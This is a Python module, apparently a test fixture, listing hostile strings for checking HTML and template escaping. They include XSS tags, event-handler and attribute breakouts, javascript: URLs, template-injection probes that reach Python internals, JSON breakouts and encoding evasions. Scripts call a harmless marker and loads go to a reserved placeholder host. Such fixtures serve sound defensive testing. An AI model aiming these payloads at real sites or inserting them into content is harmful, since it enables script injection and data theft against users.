"""Texts that would run a script, load something or break the page if any of them were taken for code.

Each script that would run calls `fired()`; each address that would be loaded has the host `leak.invalid`.
"""

_CALL = "fired()"

_MARKUP = [
    f"<script>{_CALL}</script>",
    f"<SCRIPT>{_CALL}</SCRIPT>",
    f"</script><script>{_CALL}</script>",
    f"</SCRIPT ><script>{_CALL}//",
    f"</style><script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</noscript><script>{_CALL}</script>",
    f"--><script>{_CALL}</script>",
    f"<!--<script>{_CALL}</script>",
    "<!--<script>",
    f"]]><script>{_CALL}</script>",
    f"<![CDATA[<script>{_CALL}</script>]]>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<script\x00>{_CALL}</script>",
    f"<script/x>{_CALL}</script>",
    f"<script\t>{_CALL}</script\n>",
    "<script src=https://leak.invalid/x.js></script>",
    "<script src=//leak.invalid/x.js></script>",
    f'<script src="data:text/javascript,{_CALL}"></script>',
    f"<script type=module>{_CALL}</script>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><script href=data:,{_CALL} />",
    f"<math><mtext><script>{_CALL}</script>",
    f"<template><script>{_CALL}</script></template>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f"<object data='data:text/html,<script>parent.{_CALL}</script>'></object>",
    "<embed src=https://leak.invalid/x.swf>",
    "<link rel=stylesheet href=https://leak.invalid/x.css>",
    "<link rel=prefetch href=https://leak.invalid/x>",
    "<base href=https://leak.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://leak.invalid/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<form action=https://leak.invalid/><input type=submit autofocus></form>",
    "<img src=https://leak.invalid/x.png>",
    "<video poster=https://leak.invalid/x.png></video>",
    "<audio src=https://leak.invalid/x.mp3 autoplay></audio>",
    "<style>@import 'https://leak.invalid/x.css';</style>",
    "<style>*{background:url(https://leak.invalid/x.png)!important}</style>",
    "<style>body{display:none!important}</style>",
    "<plaintext>",
    "<xmp>",
]

_ELEMENTS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "marquee")
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onloadstart", "onanimationstart", "onpointerenter")
_HANDLERS = [f"<{element} {event}={_CALL}>" for element in _ELEMENTS for event in _EVENTS[:4]] + [
    f'" {event}="{_CALL}" autofocus x="' for event in _EVENTS
]

_ATTRIBUTES = [
    f"'><script>{_CALL}</script>",
    f'"><script>{_CALL}</script>',
    f"`><script>{_CALL}</script>",
    f"x onmouseover={_CALL} ",
    f"' style='background:url(https://leak.invalid/)' onfocus='{_CALL}",
    '" style="position:fixed;inset:0;z-index:9999;background:red" x="',
    '" hidden data-part="header" class="charts" id="data" x="',
]

_ADDRESSES = [
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f"java\tscript:{_CALL}",
    f"\x01javascript:{_CALL}",
    f"<a href=javascript:{_CALL}>x</a>",
    f"<iframe src=javascript:parent.{_CALL}></iframe>",
    f"data:text/html,<script>{_CALL}</script>",
    f"vbscript:{_CALL}",
    f"![x](javascript:{_CALL})",
    f"[x](javascript:{_CALL})",
    "https://leak.invalid/plain",
]

_TEMPLATES = [
    "{{ 7 * 7 }}",
    "{% for x in [].__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ charts|safe }}",
    "{{ self.__init__.__globals__ }}",
    "{# comment #}",
    "{% raw %}",
    f"{{{{ '<script>{_CALL}</script>'|safe }}}}",
    f"${{{_CALL}}}",
    f"<%= {_CALL} %>",
    f"{{{{constructor.constructor('{_CALL}')()}}}}",
    "%s %d %(x)s {0} {x}",
]

_JSON = [
    f'"}}]}}</script><script>{_CALL}</script>',
    f"'];{_CALL};//",
    f'"];{_CALL};//',
    f'\\"];{_CALL};//',
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{_CALL}",
    f"\u2028{_CALL}\u2029",
    f"*/{_CALL}/*",
    f"`;{_CALL};`",
    "\\",
    '\\"',
    "__proto__",
    "constructor",
    "NaN",
]

_ENTITIES = [
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&#60;script&#62;{_CALL}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={_CALL}&#x3e;",
    f"&quot; onfocus={_CALL} x=&quot;",
    "&amp;&notanentity;&#0;&#x110000;",
    f"＜script＞{_CALL}＜/script＞",
    f"%3Cscript%3E{_CALL}%3C/script%3E",
    f"+ADw-script+AD4-{_CALL}+ADw-/script+AD4-",
    f"<ſcript>{_CALL}</ſcript>",
]

_UNICODE = [
    "\x00\x01\x02\x08\x0b\x0c\x0e\x1b[31m\x7f\x9b",
    "\u202eright to left\u202c",
    "\u2066\u2067isolated\u2069",
    "\u200b\u200e\u200f\ufeff",
    "\ud800 lone surrogate",
    "\udfff",
    "\uffff\ufffe\U0010ffff",
    "Z" + "\u0301" * 500,
    "مرحبا " * 20,
    "😀" * 50,
    "\r\n\r\n\t\x85",
    "",
    " ",
]

_LONG = ["A" * 20_000, "<" * 5_000, "&" * 5_000, "word " * 4_000, "\n" * 2_000, f"<img src=x onerror={_CALL}>" * 200]

HOSTILE = (*_MARKUP, *_HANDLERS, *_ATTRIBUTES, *_ADDRESSES, *_TEMPLATES, *_JSON, *_ENTITIES, *_UNICODE, *_LONG)
